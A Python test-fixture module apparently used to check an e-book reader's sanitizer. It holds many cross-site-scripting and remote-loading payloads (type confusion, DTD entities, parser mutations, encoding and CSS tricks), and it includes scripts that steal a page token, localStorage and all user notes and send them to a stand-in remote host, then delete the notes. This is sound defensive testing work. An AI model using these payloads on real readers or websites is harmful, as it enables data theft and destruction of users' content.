# SPDX-License-Identifier: BSD-3-Clause
"""Documents that attack the page: their types, encodings and markup are chosen so that a browser parses them
differently from the software that prepared them.  hostile_books.py puts them into books."""
from typing import NamedTuple
from urllib.parse import quote
from xml.sax.saxutils import escape

REMOTE = "http://127.0.0.1:9/~remote/"
SCRIPT = ("for (const one of [self, parent, top]) { try { one.hacked = true } catch (error) {} } "
          "try { top.postMessage('hacked', '*') } catch (error) {}")
TEXT = "Among the words of this chapter there is something that a reader never sees."
XHTML, SVG, MATHML = "http://www.w3.org/1999/xhtml", "http://www.w3.org/2000/svg", "http://www.w3.org/1998/Math/MathML"
ALL = "chromium qt webkit firefox"


class Attempt(NamedTuple):
    """A chapter, and other files of its book."""
    #: Markup in the body of an ordinary chapter, or also in its head.
    markup: str = ""
    #: Name, media type (None: not in the manifest; "": none), text, encoding.
    files: tuple = ()
    #: The whole chapter, instead of an ordinary one with the markup; "{text}" is replaced with the visible text.
    document: str = ""
    kind: str = "application/xhtml+xml"
    encoding: str = "utf-8"
    in_head: bool = False
    #: Engines in which it succeeds without countermeasures; none: it would if the library served it as another type.
    engines: str = ALL
    #: Engines in which something still arrives, as documented in docs/web.md.
    left: str = ""
    #: Whether the page shows its text.
    shown: bool = True


def script(code):
    return f"<script>//<![CDATA[\n{code}; {SCRIPT}\n//]]></script>"


#: An attack that reads what belongs to the page, and sends it away.
THEFT = script(f"""let token = ""; try {{ token = JSON.parse(top.document.querySelector("meta[name=lectern]").content).token.slice(0, 4)
+ Object.values(top.localStorage) }} catch (error) {{}}
new Image().src = "{REMOTE}stolen?" + encodeURIComponent(token)""")
LOADS = f"""<img src="{REMOTE}img.png" alt=""/><iframe src="{REMOTE}frame"></iframe><p style="background: url({REMOTE}style.png)">p</p>"""
INNER = f'<html xmlns="{XHTML}"><head><title>x</title><link rel="stylesheet" href="{REMOTE}sheet.css"/></head><body>{THEFT}{LOADS}</body></html>'
#: Reads the notes of all books in the reader, sends them away, and deletes them.
TAKEOVER = INNER.replace(THEFT, script(f"""(async () => {{
const api = "/" + top.location.pathname.split("/")[1] + "/api/", ask = async (path, more) => (await fetch(api + path, more)).json();
const {{notes}} = await ask("notes/changes"), {{books}} = await ask("shelf"), headers = {{"Content-Type": "application/json"}};
new Image().src = "{REMOTE}notes?" + encodeURIComponent(JSON.stringify(notes));
for (const {{id}} of notes) for (const book of books) ask(`books/${{book.id}}/notes/remove`, {{method: "POST", headers, body: JSON.stringify({{id}})}}) }})()"""))
SOUP = "<!DOCTYPE html>" + INNER.replace("//<![CDATA[", "").replace("//]]>", "")
DRAWING = f"""<svg xmlns="{SVG}" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90">{THEFT}
<style>@import url({REMOTE}import.css);</style><image href="{REMOTE}image.png" width="9" height="9"/>
<foreignObject width="90" height="90"><body xmlns="{XHTML}">{LOADS}</body></foreignObject></svg>"""


def frames(name):
    return f'<iframe src="{name}"></iframe><object data="{name}"></object><embed src="{name}"/>'


def framed(extension, kind, text, encoding="utf-8", **more):
    """A chapter that frames a file in three ways.  NAME is replaced with the name of the attempt."""
    name = f"NAME-1.{extension}"
    return Attempt(frames(name), ((name, kind, text, encoding),), **more)


def whole(text, kind="application/xhtml+xml", **more):
    return Attempt(document=text, kind=kind, **more)


def soup(text, **more):
    """A chapter of HTML."""
    return whole(f"<!DOCTYPE html><html><head><title>x</title></head><body><p>{{text}}</p>{text}</body></html>", "text/html", **more)


def page(body, subset="", head="", before=""):
    return (f'<?xml version="1.0"?>{before}<!DOCTYPE html{subset}><html xmlns="{XHTML}"><head><title>x</title>{head}</head>'
            f"<body><p>{{text}}</p>{body}</body></html>")


NESTED = tuple((f"NAME-{depth}.xml", "application/xml", f'<html xmlns="{XHTML}"><body><iframe src="NAME-{depth + 1}.xml"/></body></html>')
               for depth in range(10)) + (("NAME-10.xml", "application/xml", INNER),)
BY_TYPE = {
    "type-xsl": framed("xsl", "text/xsl", INNER, engines="chromium qt webkit"), "type-xml": framed("xml", "application/xml", INNER),
    "type-text-xml": framed("xml", "text/xml", INNER), "type-xslt": framed("xslt", "application/xslt+xml", INNER, engines=""),
    "type-rdf": framed("rdf", "application/rdf+xml", INNER, engines="firefox"), "type-atom": framed("atom", "application/atom+xml", INNER, engines="webkit"),
    "type-mathml": framed("mml", "application/mathml+xml", f'<math xmlns="{MATHML}"><mtext>{INNER}</mtext></math>', engines="firefox"),
    "type-ncx": framed("ncx", "application/x-dtbncx+xml", INNER, engines=""), "type-unknown-xml": framed("foo", "x-foo/x-bar+XML; a=b", INNER, engines=""),
    "type-unknown": framed("unk", "application/unknown", SOUP, engines="chromium qt webkit"), "type-unknown-unknown": framed("unk", "unknown/unknown", SOUP, engines="chromium qt webkit"),
    "type-star": framed("star", "*/*", SOUP), "type-none": framed("none", "", SOUP), "type-invalid": framed("bad", "text", SOUP),
    "type-svg": framed("svg", "image/svg+xml", DRAWING), "type-svg-case": framed("pic", "Image/SVG+XML; charset=utf-8", DRAWING),
    "type-two": framed("two", "image/png, text/html", SOUP), "type-two-spaced": framed("two", "text/html image/png", SOUP),
    "type-html-charset": framed("htm", "text/html; charset=utf-16le", SOUP, "utf-16-le"),
    "type-html-parameters": framed("bin", "TEXT/HTML;x=\"image/png\"", SOUP),
    "type-xhtml-profile": framed("bin", "application/xhtml+xml;profile=image/png", INNER),
    "type-mixed-replace": framed("mix", "multipart/x-mixed-replace; boundary=b", f"--b\r\nContent-Type: text/html\r\n\r\n{SOUP}\r\n--b--\r\n", engines="webkit firefox"),
    "type-text-html-in-plain": framed("txt", "text/plain", SOUP, engines=""), "type-octets": framed("bin", "application/octet-stream", SOUP, engines=""),
    "type-mhtml": framed("mht", "multipart/related", f"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n{SOUP}", engines=""),
    "type-cache-manifest": framed("appcache", "text/cache-manifest", SOUP, engines=""), "type-script": framed("js", "application/javascript", SOUP, engines=""),
    "type-picture": framed("png", "image/png", SOUP, engines=""), "type-pdf": framed("pdf", "application/pdf", SOUP, engines=""),
    "type-font": framed("woff", "font/woff", SOUP, engines=""), "type-sound": framed("mp3", "audio/mpeg", SOUP, engines=""),
    "unlisted-xhtml": framed("xhtml", None, INNER), "unlisted-html": framed("html", None, SOUP), "unlisted-svg": framed("svg", None, DRAWING),
    "unlisted-xml": framed("xml", None, INNER), "unlisted-nothing": framed("", None, SOUP), "unlisted-xsl": framed("xsl", None, INNER, engines=""),
    "unlisted-shtml": framed("shtml", None, SOUP), "unlisted-xht": framed("xht", None, INNER),
    "takes-notes": framed("xsl", "text/xsl", TAKEOVER, engines="chromium qt webkit"),
    "nested": Attempt('<iframe src="NAME-0.xml"></iframe>', NESTED, engines="chromium qt webkit"),
    "frameset": Attempt(frames("NAME.htm"), (("NAME.htm", "text/html", '<frameset cols="*,*"><frame src="NAME.xsl"><frame src="' + REMOTE
                                              + 'frame"></frameset>'), ("NAME.xsl", "text/xsl", INNER))),
    "addresses": Attempt("".join(f'<iframe src="{one}"></iframe>' for one in (
        "NAME%2Exsl", "./x/../NAME.xsl", "NAME.xsl?a=b.png", "NAME.xsl#a.png", "../EPUB//NAME.xsl", "/EPUB/NAME.xsl", "NAME.xsl?"))
        + '<object data="nothing.png"><iframe src="NAME.xsl"></iframe></object>', (("NAME.xsl", "text/xsl", INNER),), engines="chromium qt webkit"),
    "in-a-drawing": Attempt(f'<svg xmlns="{SVG}" width="99" height="99"><foreignObject width="99" height="99"><iframe xmlns="{XHTML}" '
                            f'src="NAME.xsl"/><h:object xmlns:h="{XHTML}" data="NAME.xsl"/></foreignObject><h:iframe xmlns:h="{XHTML}" '
                            'src="NAME.xsl"/></svg>', (("NAME.xsl", "text/xsl", INNER),), engines="chromium qt webkit"),
    "chapter-xsl": whole(INNER, "text/xsl", shown=False, engines="chromium qt webkit"), "chapter-xml": whole(INNER, "application/xml", shown=False),
    "chapter-svg": whole(DRAWING, "image/svg+xml", shown=False, engines=""), "chapter-svg-case": whole(DRAWING, "Image/SVG+xml", shown=False, engines=""),
    "chapter-html-charset": whole(SOUP, "text/html; charset=utf-16le", encoding="utf-16-le", shown=False),
    "chapter-unknown": whole(SOUP, "application/unknown", shown=False, engines="chromium qt webkit"),
}

FIRST = f"<!ENTITY frame \"&#60;iframe xmlns='{XHTML}' src='{REMOTE}entity'/>\">"
SUBSETS = {
    "attributes-by-default": whole(page("<iframe/><img/><p class='a'>p</p>", f""" [<!ATTLIST iframe src CDATA "{REMOTE}attlist">
<!ATTLIST img src CDATA "{REMOTE}attlist.png" onerror CDATA "{SCRIPT.replace('"', "'")}"> <!ATTLIST p style CDATA "background: url({REMOTE}p.png)">]""")),
    "fixed-attributes": whole(page("<script/><link/>", f""" [<!ATTLIST script src CDATA #FIXED "{REMOTE}script.js">
<!ATTLIST link rel CDATA #FIXED "stylesheet" href CDATA "{REMOTE}sheet.css">]""")),
    "entities": whole(page("&frame;&outer;", f""" [{FIRST}<!ENTITY inner "&#38;#60;img src='{REMOTE}inner.png'/>"><!ENTITY outer "&inner;">]""")),
    "entities-in-attributes": whole(page('<img src="&address;" alt=""/><p style="&style;">p</p>',
                                         f""" [<!ENTITY address "{REMOTE}address.png"><!ENTITY style "background: url({REMOTE}style.png)">]""")),
    "parameter-entities": whole(page("<iframe/>", f""" [<!ENTITY % all "<!ATTLIST iframe src CDATA '{REMOTE}parameter'>"> %all;]"""), engines="firefox"),
    "namespaces-by-default": whole(page(f'<x:img src="{REMOTE}img.png"/><x:script>{SCRIPT}</x:script>',
                                        f' [<!ATTLIST x:img xmlns:x CDATA "{XHTML}"><!ATTLIST x:script xmlns:x CDATA "{XHTML}">]')),
    "subset-of-a-frame": framed("xml", "application/xml", f"""<!DOCTYPE html [<!ATTLIST html xmlns CDATA "{XHTML}">{FIRST}
<!ATTLIST img xmlns CDATA "{XHTML}" src CDATA "{REMOTE}attlist.png">]><html><body><img/>&frame;</body></html>"""),
    "subset-of-a-drawing": framed("svg", "image/svg+xml", f"""<!DOCTYPE svg [<!ATTLIST svg xmlns CDATA "{SVG}" onload CDATA "top.hacked=true">
<!ATTLIST image href CDATA "{REMOTE}attlist.png">]><svg width="9" height="9"><image width="9" height="9"/></svg>"""),
    "doctype-in-pieces": whole(page("<iframe/>", f"""\n SYSTEM "a>b" [<!-- ]> --><?x ]> ?><!ENTITY q "]>"><!ATTLIST iframe
src CDATA '{REMOTE}pieces'>\n] """)),
}


def transforms(attributes=""):
    return (f'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" {attributes}><xsl:template match="/">'
            f"{INNER}</xsl:template></xsl:stylesheet>")


TRANSFORM = '<?xml-stylesheet type="text/xsl" href="NAME.xsl"?>'
STYLED = f'<?xml-stylesheet type="text/css" href="{REMOTE}first.css"?>'
INSTRUCTIONS = {
    "transformed-chapter": whole(page("", before=TRANSFORM), files=(("NAME.xsl", "text/xsl", transforms()),)),
    "transformed-frame": Attempt(frames("NAME.xml"), (("NAME.xml", "application/xml", TRANSFORM + "<a/>"), ("NAME.xsl", "text/xsl", transforms()))),
    "transformed-drawing": Attempt(frames("NAME.svg"), (("NAME.svg", "image/svg+xml", TRANSFORM + f'<svg xmlns="{SVG}"/>'),
                                                        ("NAME.xsl", "application/xslt+xml", transforms()))),
    "transform-in-itself": framed("xml", "text/xml", '<?xml-stylesheet type="text/xml" href="#s"?><!DOCTYPE a [<!ATTLIST xsl:stylesheet id '
                                  f'ID #IMPLIED>]><a>{transforms("id=" + chr(34) + "s" + chr(34))}</a>'),
    "styled-chapter": whole(page("", before=STYLED)),
    "styled-by-data": whole(page("", before=f'<?xml-stylesheet href="data:text/css,@import url({REMOTE}import.css);"?>')),
    "styled-frame": framed("xml", "application/xml", STYLED + "<a/>"),
    "styled-drawing": framed("svg", "image/svg+xml", STYLED + f'<svg xmlns="{SVG}"/>'),
    "styled-after-a-comment": whole(page("", before=f"<!-- <html><head> -->{STYLED}<!-- <head> -->")),
}

MARKED = f'<img src="nothing" onerror="{SCRIPT}"><img src="{REMOTE}img.png">'
MUTATIONS = {
    "late-head": whole(f"<!DOCTYPE html><p>{{text}}</p><head></head>{MARKED}", "text/html"),
    "head-in-a-comment": whole(f"<!DOCTYPE html><!--<head>--><!--><head>{MARKED}--><p>{{text}}</p>{MARKED}", "text/html"),
    "head-in-a-title": whole(f"<!DOCTYPE html><title><head></title><p>{{text}}</p>{MARKED}", "text/html"),
    "head-in-an-attribute": whole(f'<!DOCTYPE html><html title="<head>"><p>{{text}}</p>{MARKED}', "text/html"),
    "head-in-a-script": whole(f"<!DOCTYPE html><script>{SCRIPT} // <head></script><p>{{text}}</p>{MARKED}", "text/html"),
    "no-head": whole(f'<body xmlns="{XHTML}"><p>{{text}}</p>{THEFT}{LOADS}</body>'),
    "head-at-the-end": whole(f'<html xmlns="{XHTML}"><body><p>{{text}}</p>{THEFT}{LOADS}</body><head><title>x</title></head></html>'),
    "foreign-head": whole(f'<html xmlns="{XHTML}"><x:head xmlns:x="urn:x"/><head xmlns="urn:x"/><body><p>{{text}}</p>{THEFT}{LOADS}</body></html>'),
    "prefixed-root": whole(f'<h:html xmlns:h="{XHTML}"><h:head><h:title>x</h:title></h:head><h:body><h:p>{{text}}</h:p><h:script>{SCRIPT}'
                           f'</h:script><h:img src="{REMOTE}img.png"/></h:body></h:html>'),
    "root-of-another-kind": whole(DRAWING, shown=False), "root-unknown": whole(f'<x xmlns="urn:x">{INNER}</x>', shown=False, engines="chromium webkit firefox"),
    "prefixes": Attempt(f'<h:script xmlns:h="{XHTML}">{SCRIPT}</h:script><s:svg xmlns:s="{SVG}"><s:script>{SCRIPT}</s:script>'
                        f'<h:img xmlns:h="{XHTML}" src="{REMOTE}img.png"/></s:svg>'),
    "layers": Attempt(f'<svg xmlns="{SVG}"><foreignObject><div xmlns="{XHTML}"><svg xmlns="{SVG}"><script>{SCRIPT}</script><desc><img '
                      f'xmlns="{XHTML}" src="{REMOTE}img.png"/></desc></svg></div></foreignObject></svg>'),
    "comments": soup(f"<!-->{MARKED}--><!--->{MARKED}--><!-- --!>{MARKED}--><!x>{MARKED}<?x>{MARKED}</ x>{MARKED}"),
    "sections": soup(f"<![CDATA[>{MARKED}]]><svg><![CDATA[</svg>]]>{MARKED}</svg><svg><style>{MARKED}</style><title><style></title>{MARKED}"),
    "noscript": soup(f'<noscript><p title="</noscript>{MARKED.replace(chr(34), "")}"></noscript><noscript><style></noscript>{MARKED}</style>'
                     f'<noscript><!--</noscript>{MARKED}-->'),
    "raw-text": soup(f"<xmp><p title='</xmp>{MARKED}'></xmp><noembed><p title='</noembed>{MARKED}'><title><p title='</title>{MARKED}'>"
                     f"<textarea><p title='</textarea>{MARKED}'><iframe><p title='</iframe>{MARKED}'>"),
    "templates": soup(f'<div><template shadowrootmode="open">{MARKED}<script>{SCRIPT}</script></template></div><table><tr><template>'
                      f"</table>{MARKED}<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=top.hacked=1&gt;\">", engines="chromium webkit firefox"),
    "integration-points": soup(f'<math><annotation-xml encoding="text/html"><style>{MARKED}</style>{MARKED}</annotation-xml>'
                               f"<annotation-xml><style>{MARKED}</style></annotation-xml></math><svg><p><style><a id=\"</style>{MARKED}\">"),
    "doubled-attributes": soup(f'<img src="{REMOTE}one.png" src="small.png" onerror="{SCRIPT}" onerror=""><iframe src={REMOTE}two src="small.png">'
                               f"</iframe><img/src='{REMOTE}three.png'/onerror='{SCRIPT}'/><img \"src={REMOTE}x\" src\n=\n{REMOTE}four.png>"),
    "scripts-in-comments": soup(f"<script><!--<script></script>{MARKED}--></script>{MARKED}<script/src=x></script/x>{MARKED}"),
    "unclosed": soup(f"<p <img src={REMOTE}a.png><b/ onclick=x <img src={REMOTE}b.png>{MARKED}<plaintext></plaintext><img src='{REMOTE}c.png' x="),
}
ENCODINGS = {
    "encoded-utf-16": framed("htm", "text/html", "\ufeff" + SOUP, "utf-16-le"),
    "encoded-utf-16-xml": framed("xml", "application/xml", '<?xml version="1.0" encoding="UTF-16"?>' + INNER, "utf-16-be", engines="chromium qt webkit"),
    "encoded-chapter-utf-16": whole("\ufeff" + page(THEFT + LOADS), encoding="utf-16-be"),
    "declared-utf-16": whole('<?xml version="1.0" encoding="utf-16"?>' + INNER, shown=False, engines="chromium qt webkit"),
    "declared-twice": whole('\ufeff<?xml version="1.0" encoding="iso-2022-jp"?>' + INNER, shown=False, engines="chromium qt webkit"),
    # Read as ASCII, there is an attribute x with a picture in it.
    "iso-2022-jp": whole(f'<!DOCTYPE html><meta charset="iso-2022-jp"><p>{{text}}</p><p title="\x1b$@"x=\'\x1b(B"><img src={REMOTE}jis.png>'
                         "<p title='x'>", "text/html"),
    "shift-jis": whole(f'<!DOCTYPE html><meta charset="shift_jis"><p>{{text}}</p><p title="\x83"{MARKED}<p>{MARKED}', "text/html",
                       encoding="latin-1"),
    "x-user-defined": whole(f'<!DOCTYPE html><meta charset="x-user-defined"><p>{{text}}</p>{MARKED}', "text/html"),
    "null-characters": soup(f"<i\0mg src={REMOTE}a.png><scr\0ipt>{SCRIPT}</scr\0ipt>{MARKED}"),
    "replaced-html": whole(f'<?xml version="1.0" encoding="x-unknown"?><!DOCTYPE html><html><body><p>{{text}}</p>{MARKED}', "text/html"),
}

DATA = "data:{},{}"
URLS = {
    "data-documents": Attempt("".join(frames(escape(DATA.format(kind, quote(text)))) for kind, text in (
        ("text/html", SOUP), ("application/xhtml+xml", INNER), ("image/svg+xml", DRAWING), ("text/xml", INNER), ("text/xsl", INNER)))),
    "srcdoc": Attempt("".join(f'<iframe srcdoc="{escape(text, {chr(34): "&quot;"})}" {more}></iframe>' for text, more in (
        (SOUP, ""), (SOUP, 'sandbox="allow-scripts allow-same-origin"'), ('<iframe src="NAME.xsl"></iframe>', ""))), (("NAME.xsl", "text/xsl", INNER),)),
    "javascript": Attempt('<iframe src="javascript:parent.parent.hacked=true"></iframe><object data="javascript:top.hacked=true"></object>'
                          '<embed src="javascript:top.hacked=true"/><iframe src="&#9;java&#10;script&#58;top.hacked=true"></iframe>'
                          '<img src="javascript:top.hacked=true"/><video poster="javascript:top.hacked=true"></video>'
                          '<map name="m"><area class="click" href="javascript:top.hacked=true" coords="0,0,9,9"/></map>'
                          f'<math xmlns="{MATHML}" href="javascript:top.hacked=true" class="click"><mi>x</mi></math>'),
    "old-attributes": Attempt(f'<table background="{REMOTE}table.png"><tr><td background="{REMOTE}td.png">t</td></tr></table><img lowsrc="{REMOTE}low" '
                              f'dynsrc="{REMOTE}dyn" longdesc="{REMOTE}long" alt=""/><object codebase="{REMOTE}" data="code" archive="{REMOTE}a" '
                              f'classid="{REMOTE}class"></object><applet codebase="{REMOTE}" code="a"></applet><bgsound src="{REMOTE}sound"/>'
                              f'<q cite="{REMOTE}cite">q</q><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{REMOTE}include"/>'
                              f'<div xml:base="{REMOTE}"><img src="base.png" alt=""/></div>'),
    "background": whole(f'<html xmlns="{XHTML}" manifest="{REMOTE}manifest"><head profile="{REMOTE}profile"><title>x</title></head><body '
                        f'background="{REMOTE}body.png"><p>{{text}}</p></body></html>'),
    "candidates": Attempt(f'<link rel="preload" as="image" imagesrcset="{REMOTE}preload.png 1x" imagesizes="9px" href=""/><picture><source media="all" '
                          f'srcset="small.png 9000w, {REMOTE}wide.png 9w" sizes="1px"/><img alt=""/></picture><img srcset=",{REMOTE}comma.png" alt=""/>'
                          f'<img srcset="&#10;{REMOTE}line.png&#9;2x,small.png 1x" src="data:," alt=""/>'),
    "links-in-the-body": Attempt(f'<link rel="alternate stylesheet" title="a" href="{REMOTE}alternate.css"/><link rel="&#9;StyleSheet&#9;x" href="{REMOTE}a.css"/>'
                                 f'<link rel="stylesheet" href="NAME.txt"/><link rel="stylesheet" href="NAME.css"/>',
                                 (("NAME.txt", "text/plain", f"@import '{REMOTE}plain.css';"), ("NAME.css", "text/css", f"@import '{REMOTE}own.css';"))),
    "white-space": Attempt(f'<img src="&#10;&#9; {REMOTE}a.png" alt=""/><img src="{REMOTE.replace("//", "&#10;//")}b.png" alt=""/><img src="'
                           f'{REMOTE.replace("http", "ht&#9;tp").replace("//", chr(92) * 2)}c.png" alt=""/>'
                           f'<img src="{REMOTE.replace("http://", "http:&#47;&#92;&#47;")}e.png" alt=""/>'),
}
VECTORS = {
    "animated-addresses": Attempt(f'<svg xmlns="{SVG}" xmlns:xlink="http://www.w3.org/1999/xlink" width="99" height="99"><image width="9" height="9">'
                                  f'<set attributeName="href" to="{REMOTE}set.png"/></image><image width="9" height="9"><animate attributeName="xlink:href" '
                                  f'values="{REMOTE}animate.png;{REMOTE}other.png" dur="9s"/></image><image id="i" width="9" height="9"/><set href="#i" '
                                  f'attributeName="href" to="{REMOTE}target.png"/></svg>', engines="chromium firefox qt"),
    "animated-styles": Attempt(f'<svg xmlns="{SVG}" width="99" height="99"><rect width="9" height="9"><set attributeName="style" to="mask: '
                               f'url({REMOTE}a.png)"/><animate attributeName="mask" values="url({REMOTE}mask.svg#a);none" dur="9s"/><set '
                               f'attributeName="fill" to="url({REMOTE}fill.svg#a)"/></rect></svg>', engines="chromium firefox"),
    "presentation": Attempt(f'<svg xmlns="{SVG}" width="99" height="99">' + "".join(f'<path d="M0 0H9V9Z" {name}="url({REMOTE}{name}.svg#a)"/>' for name in (
        "mask", "filter", "clip-path", "fill", "stroke", "marker-start", "cursor")) + f'<pattern id="p" href="{REMOTE}pattern.svg#a"/>'
        f'<text><textPath href="{REMOTE}path.svg#a">t</textPath></text><rect width="9" height="9" fill="url(#p)"/></svg>', engines="chromium webkit firefox"),
    "used-files": Attempt(f'<svg xmlns="{SVG}" width="99" height="99"><use href="NAME.svg#a"/><use href="data:image/svg+xml,{quote(DRAWING)}#a"/>'
                          f'<use href="{REMOTE}use.svg#a"/></svg>',
                          (("NAME.svg", "image/svg+xml", DRAWING.replace("<svg ", '<svg id="a" ', 1)),), engines="firefox webkit"),
    "drawn-scripts": Attempt(f'<svg xmlns="{SVG}" xmlns:xlink="http://www.w3.org/1999/xlink"><script href="NAME.js"/><script xlink:href="NAME.js"/>'
                             f'<script href="data:text/javascript,top.hacked=true"/><style>@import "{REMOTE}import.css";</style></svg>',
                             (("NAME.js", "text/javascript", SCRIPT),)),
    "filtered": Attempt(f'<svg xmlns="{SVG}" width="99" height="99"><filter id="f"><feImage href="{REMOTE}fe.png"/></filter><filter id="g"><feImage>'
                        f'<set attributeName="href" to="{REMOTE}set.png"/></feImage></filter><rect filter="url(#f)" width="9" height="9"/>'
                        f'<rect filter="url(#g)" width="9" height="9"/></svg>'),
    "formulas": Attempt(f'<math xmlns="{MATHML}"><semantics><mi>x</mi><annotation-xml encoding="text/html"><img xmlns="{XHTML}" src="{REMOTE}img.png"/>'
                        f'</annotation-xml></semantics><mtext><iframe xmlns="{XHTML}" src="NAME.xsl"/></mtext><mi style="background: url({REMOTE}style.png)">y'
                        f'</mi><maction actiontype="toggle"><mi>a</mi><mglyph src="{REMOTE}glyph.png"/></maction></math>', (("NAME.xsl", "text/xsl", INNER),)),
}


def styles(text, **more):
    return Attempt(f"<style>/*<![CDATA[*/ {text} /*]]>*/</style><div class='d'>d</div>", **more)


SHEETS = {
    "escaped": styles(f"p {{ background: \\75\\72\\6c({REMOTE}a.png) }} .d {{ background: u\\72 l('{REMOTE.replace('http', chr(92) + '68ttp')}b.png') }}"),
    "imports": styles(f"@charset 'utf-8'; @\\69mport '{REMOTE}a.css'; @import/**/url(\"{REMOTE}b.css\")layer(x); @IMPORT URL({REMOTE}c.css) screen;"),
    "sets": styles(f"p {{ background: image-set('{REMOTE}a.png' 1x, '{REMOTE}b.png' 2x) }} .d {{ background: -webkit-image-set(url({REMOTE}c.png) 1x) }}"),
    "variables": styles(f":root {{ --a: url({REMOTE}a.png); --b: url( }} p {{ background: var(--a) }} .d {{ background: var(--none, url({REMOTE}b.png)) }}"),
    "faces": styles(f"@font-face {{ font-family: 'a'; src: local('x'), url({REMOTE}a.woff2) format('woff2') }} p {{ font-family: a }} "
                    f"@font-face {{ font-family: b; src: src('{REMOTE}b.ttf'), URL('{REMOTE}c.ttf') }} .d {{ font-family: b }}"),
    "unclosed-sheets": styles(f"p {{ color: red; x: '\n; background: url({REMOTE}a.png) }} .d {{ background: url('{REMOTE}b.png'"),
    "nested-sheets": styles(f"@media all {{ @supports (display: block) {{ @layer a {{ body {{ & p {{ background: url({REMOTE}a.png) }} }} }} }} }} "
                            f"@counter-style c {{ system: cyclic; symbols: url({REMOTE}b.png) }} .d {{ offset-path: url({REMOTE}c.svg#a); "
                            f"background: -webkit-cross-fade(url({REMOTE}d.png), url({REMOTE}e.png), 50%) }}"),
    "sheet-in-another-encoding": Attempt('<link rel="stylesheet" href="NAME.css"/>', (("NAME.css", "text/css", f"\ufeff@import '{REMOTE}a.css';", "utf-16-le"),)),
    "sheet-of-another-type": whole('<link rel=stylesheet href="NAME.txt"><link rel=stylesheet href="NAME.xsl"><p>{text}</p>', "text/html", files=(
        ("NAME.txt", "text/plain", f"@import '{REMOTE}plain.css';"), ("NAME.xsl", "text/xsl", f"@import '{REMOTE}xsl.css';"))),
    "in-attributes": Attempt(f'<p style="background:url({REMOTE}a.png)">a</p><p style="list-style: &quot;;&#125; &quot; url({REMOTE}b.png); display: list-item">b</p>'
                             f'<svg xmlns="{SVG}"><g style="mask: url({REMOTE}c.svg#a)"><path d="M0 0H9V9Z"/></g></svg>'),
}
SUBJECTS = {"types": BY_TYPE, "subsets": SUBSETS, "instructions": INSTRUCTIONS, "mutations": MUTATIONS, "encodings": ENCODINGS, "urls": URLS,
            "vectors": VECTORS, "sheets": SHEETS}
